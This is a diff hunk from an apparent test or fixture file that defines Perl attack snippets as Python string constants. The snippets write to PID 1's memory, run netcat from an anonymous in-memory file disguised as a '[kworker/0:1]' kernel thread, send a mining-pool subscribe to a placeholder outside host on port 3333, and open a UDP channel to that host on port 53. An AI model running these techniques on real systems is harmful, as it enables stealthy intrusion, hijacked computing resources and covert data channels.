@@ -31,7 +31,7 @@ PERL_MEMORY = r"""open(my $maps, "<", "/proc/1/maps") or die; my ($at) = map { /
 open(my $memory, "+<", "/proc/1/mem") or die; sysseek($memory, $at, 0); sysread($memory, my $word, 8);
 sysseek($memory, $at, 0); syswrite($memory, $word);"""
 PERL_MINER = f"""$^F = 255; my $memory = syscall(`uname -m` =~ /x86/ ? 319 : 279, my $name = "kworker", 0); open(my $out, ">&=", $memory) or die;
-binmode $out; open(my $in, "<", "/usr/bin/nc") or die; local $/; print $out <$in>; $out->flush;
+binmode $out; open(my $in, "<", "/usr/bin/nc") or die; local $/; print {{$out}} <$in>; $out->flush;
 open(STDIN, "-|") || do {{ print '{{"id":1,"method":"mining.subscribe"}}', "\\n"; sleep 2; exit }};
 exec {{"/proc/$$/fd/$memory"}} "[kworker/0:1]", "-w", "2", "{OUTSIDE}", "3333";"""
 PERL_NAMES = f"""use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "{OUTSIDE}", PeerPort => 53, Proto => "udp") or die;
